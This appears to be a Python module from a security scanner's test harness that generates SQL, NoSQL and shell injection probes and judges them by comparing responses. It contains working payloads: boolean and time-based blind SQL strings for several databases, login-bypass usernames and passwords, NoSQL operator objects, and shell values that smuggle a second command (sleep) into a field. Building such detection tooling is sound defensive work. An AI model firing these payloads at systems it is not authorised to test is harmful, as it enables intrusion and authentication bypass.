"""Injection judged by differential behaviour (SQL, NoSQL operators, shell): pure functions over what
the check in test_suites/network/test_injection.py sent and saw.

- **Boolean pairs.** For one input, a true-condition payload and a false-condition payload of the
  same shape (``v' AND 'k'='k`` against ``v' AND 'k'='q``). A product that keeps the value as data
  answers both alike (an invalid value). A product that evaluates it answers the true condition
  like a genuine request (or with rows) and the false one like an invalid value. Only that
  difference, explained by the baseline and the invalid-value answer, counts; the declared
  accounts' IDs showing up in an answer decide nothing on their own.
- **Time pairs.** ``sleep(N)`` against ``sleep(0)`` of the same shape, in SQL dialects and shell;
  the delay must show against the control twice.

Thresholds are lab policy, named here so a lab can align them with its own."""

from __future__ import annotations

import json
import random
import string
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

import requests

from harness.checks.authorization import leaves
from harness.checks.transaction import fingerprint

SLEEP_S = 3  # the time payloads' N seconds
MIN_DELAY_S = 0.8 * SLEEP_S  # a sleep(N) answer must come at least this much later than sleep(0)'s
# SQLite has no sleep: a heavy expression (hex of a random blob) of about a second stands in.
SQLITE_BLOB = 20_000_000
SQLITE_MIN_DELAY_S = 0.5
MIN_EXTRA_VALUES = 2  # "rows appear": values in the true answer that neither the false nor the junk answer has


def _token(rnd: random.Random, n: int = 5) -> str:
    return "".join(rnd.choice(string.ascii_lowercase) for _ in range(n))


@dataclass(frozen=True)
class Pair:
    """A true-condition and a false-condition payload of one shape."""

    shape: str  # how the payload closes the product's context (for the evidence)
    form: str  # "and": keeps the genuine value; "or": an invalid value or-ed with the condition; "nosql"
    true: Any
    false: Any

    def texts(self) -> list[str]:
        return [x if isinstance(x, str) else json.dumps(x) for x in (self.true, self.false)]


def boolean_pairs(genuine: str, rnd: random.Random) -> list[Pair]:
    """Pairs for one input whose genuine value is ``genuine``: each context a value can sit in
    (a quoted string, a double-quoted one, one inside parentheses, a number), with and without the
    rest of the statement commented out."""
    k, q = _token(rnd), _token(rnd)
    n = rnd.randint(100, 899)
    m = n + rnd.randint(1, 99)
    x = _token(rnd, 7)
    v = genuine
    return [
        Pair("'", "and", f"{v}' AND '{k}'='{k}", f"{v}' AND '{k}'='{q}"),
        Pair("' --", "and", f"{v}' AND '{k}'='{k}'-- ", f"{v}' AND '{k}'='{q}'-- "),
        Pair('"', "and", f'{v}" AND "{k}"="{k}', f'{v}" AND "{k}"="{q}'),
        Pair("')", "and", f"{v}') AND ('{k}'='{k}", f"{v}') AND ('{k}'='{q}"),
        Pair("数值", "and", f"{v} AND {n}={n}", f"{v} AND {n}={m}"),
        Pair("数值 )", "and", f"{v}) AND ({n}={n}", f"{v}) AND ({n}={m}"),
        Pair("'", "or", f"{x}' OR '{k}'='{k}", f"{x}' OR '{k}'='{q}"),
        Pair("' --", "or", f"{x}' OR '{k}'='{k}'-- ", f"{x}' OR '{k}'='{q}'-- "),
        Pair("')", "or", f"{x}') OR ('{k}'='{k}", f"{x}') OR ('{k}'='{q}"),
        Pair("数值", "or", f"-{n} OR {n}={n}", f"-{n} OR {n}={m}"),
    ]


def nosql_pairs(rnd: random.Random) -> list[Pair]:
    """Query-operator objects for inputs whose JSON value keeps its type: "not equal to an invalid
    value" (everything) against "equal to it" (nothing); a match-all regular expression against one
    matching only the invalid value."""
    x = _token(rnd, 9)
    return [
        Pair("$ne/$eq", "nosql", {"$ne": x}, {"$eq": x}),
        Pair("$regex", "nosql", {"$regex": ".*"}, {"$regex": f"^{x}$"}),
        Pair("$gt/$lt", "nosql", {"$gt": ""}, {"$lt": ""}),
    ]


def junk_value(genuine: str, rnd: random.Random) -> str:
    """An invalid value of the input's look: the genuine value with letters appended."""
    return f"{genuine}{_token(rnd, 6)}"


@dataclass(frozen=True)
class TimePair:
    """A payload that sleeps and the same payload sleeping zero seconds."""

    shape: str
    slow: str
    control: str
    min_delay_s: float = MIN_DELAY_S


def time_pairs(genuine: str, *, body: bool = True) -> list[TimePair]:
    """Time payloads for SQL dialects and shells, each with its zero-second control. ``body``:
    the value travels in a request body (line-break payloads only there)."""
    v, n = genuine, SLEEP_S

    def both(shape: str, tpl: str) -> TimePair:
        return TimePair(shape, tpl.format(v=v, n=n), tpl.format(v=v, n=0), MIN_DELAY_S)

    out = [
        both("PostgreSQL '", "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({n}))-- "),
        both("PostgreSQL 数值", "{v} AND 1=(SELECT 1 FROM PG_SLEEP({n}))"),
        both("PostgreSQL 表达式", "0+(SELECT 0 FROM PG_SLEEP({n}))"),
        both("PostgreSQL 多语句", "{v}';SELECT PG_SLEEP({n})-- "),
        both("PostgreSQL 拼接", "{v}'||(SELECT '' FROM PG_SLEEP({n}))||'"),
        # Without a comment, closed by the product's own quote: also inside INSERT ... VALUES ('…').
        both("PostgreSQL ' 无注释", "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({n})) AND 'a'='a"),
        both("MySQL ' 无注释", "{v}' AND (SELECT 1 FROM (SELECT SLEEP({n}))a) AND 'a'='a"),
        both("MySQL '", "{v}' AND (SELECT 1 FROM (SELECT SLEEP({n}))a)-- "),
        both("MySQL 数值", "{v} AND (SELECT 1 FROM (SELECT SLEEP({n}))a)"),
        both("SQL Server", "{v}';WAITFOR DELAY '0:0:{n}'-- "),
        both("Oracle", "{v}' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{n})-- "),
        TimePair(
            "SQLite",
            f"{v}' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({SQLITE_BLOB}))))-- ",
            f"{v}' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(1))))-- ",
            SQLITE_MIN_DELAY_S,
        ),
        both("shell ;", "{v};sleep {n};"),
        both("shell |", "{v}|sleep {n}"),
        both("shell $()", "{v}$(sleep {n})"),
        both("shell ``", "{v}`sleep {n}`"),
        both("shell &&", "{v}&&sleep {n}&&"),
        both("shell '", "{v}';sleep {n};'"),
    ]
    if body:
        out.append(both("shell 换行", "{v}\nsleep {n}\n"))
    return out


def login_username_pairs(user: str, rnd: random.Random) -> list[Pair]:
    """User-name payloads that, if pasted into SQL, make a login ignore the password (true) and
    their same-shape counterparts that cannot match anyone (false)."""
    k, q = _token(rnd), _token(rnd)
    x = _token(rnd, 7)
    return [
        Pair("' --", "and", f"{user}' AND '{k}'='{k}'-- ", f"{user}' AND '{k}'='{q}'-- "),
        Pair("' #", "and", f"{user}' AND '{k}'='{k}'#", f"{user}' AND '{k}'='{q}'#"),
        Pair("' /*", "and", f"{user}' AND '{k}'='{k}'/*", f"{user}' AND '{k}'='{q}'/*"),
        Pair('" --', "and", f'{user}" AND "{k}"="{k}"-- ', f'{user}" AND "{k}"="{q}"-- '),
        Pair("') --", "and", f"{user}') AND ('{k}'='{k}')-- ", f"{user}') AND ('{k}'='{q}')-- "),
        Pair("' OR", "or", f"{x}' OR '{k}'='{k}'-- ", f"{x}' OR '{k}'='{q}'-- "),
        Pair("' OR", "or", f"{x}' OR '{k}'='{k}", f"{x}' OR '{k}'='{q}"),
    ]


def login_password_pairs(rnd: random.Random) -> list[Pair]:
    """Password payloads (sent for a user name nobody has) that, if pasted into SQL, match any row."""
    k, q = _token(rnd), _token(rnd)
    return [
        Pair("'", "or", f"{k}' OR '{k}'='{k}", f"{k}' OR '{k}'='{q}"),
        Pair("' --", "or", f"{k}' OR '{k}'='{k}'-- ", f"{k}' OR '{k}'='{q}'-- "),
        Pair("')", "or", f"{k}') OR ('{k}'='{k}", f"{k}') OR ('{k}'='{q}"),
    ]


# -- what an answer was --------------------------------------------------------------------------
@dataclass(frozen=True)
class Seen:
    """One answer, as the judgement needs it."""

    status: int
    ok: bool  # the operation's declared success
    fp: tuple[int, str]  # status and body, the request's own texts and digits blanked
    values: frozenset[str]  # the answer's values (JSON leaves, or words of a text answer)

    @staticmethod
    def of(resp: requests.Response, ok: bool, hide: Iterable[str]) -> Seen:
        hidden = [h for h in hide if h]
        try:
            found = {x for x in leaves(resp.json()) if len(x) >= 2}
        except ValueError:
            found = {w for w in resp.text.split() if len(w) >= 2}
        values = frozenset(x for x in found if not any(h in x or x in h for h in hidden))
        return Seen(resp.status_code, ok, fingerprint(resp, hidden), values)


def boolean_reason(form: str, base: Seen | None, true: Seen, false: Seen, junk: Seen) -> str | None:
    """Why a true/false pair shows the input is evaluated (None when it does not).

    The false-condition answer must look like the answer to an invalid value (the junk value), and
    the true-condition answer must differ from it in a way the baseline explains: it succeeded as a
    genuine request does, or it carries rows that neither the false nor the junk answer has."""
    if true.fp == false.fp or false.fp != junk.fp:
        return None
    extra = true.values - false.values - junk.values
    if form == "and":
        if base is None or not base.ok or not true.ok:
            return None
        if not false.ok:
            return "真条件载荷与正常请求一样成功，假条件载荷与无效值一样被拒绝"
        if true.fp == base.fp:
            return "真条件载荷的应答与正常请求相同，假条件载荷的应答与无效值相同"
        return None
    if not true.ok:
        return None
    if not false.ok:
        return "真条件载荷被当作有效请求成功，假条件载荷与无效值一样被拒绝"
    if len(extra) >= MIN_EXTRA_VALUES:
        return f"真条件载荷的应答多出 {len(extra)} 项数据（假条件与无效值的应答中没有）"
    return None


def reason_en(zh: str) -> str:
    """The English for a ``boolean_reason`` sentence (the report's English edition)."""
    if zh.startswith("真条件载荷的应答多出"):
        n = zh.split("多出 ", 1)[1].split(" ", 1)[0]
        return f"the true-condition answer carries {n} more values than the false-condition and junk answers"
    return {
        "真条件载荷与正常请求一样成功，假条件载荷与无效值一样被拒绝": "the true condition succeeded like a genuine "
        "request, the false condition was refused like an invalid value",
        "真条件载荷的应答与正常请求相同，假条件载荷的应答与无效值相同": "the true condition answered as a genuine "
        "request does, the false condition as an invalid value does",
        "真条件载荷被当作有效请求成功，假条件载荷与无效值一样被拒绝": "the true condition was accepted as a valid "
        "request, the false condition refused like an invalid value",
    }.get(zh, zh)


def delay_shown(rounds: list[tuple[float, float]], min_delay_s: float) -> bool:
    """Whether every (slow, control) round shows the sleep: the slow answer at least ``min_delay_s``
    later than its zero-second control, and at least twice as long. At least two rounds."""
    return len(rounds) >= 2 and all(s - c >= min_delay_s and s >= 2 * c for s, c in rounds)
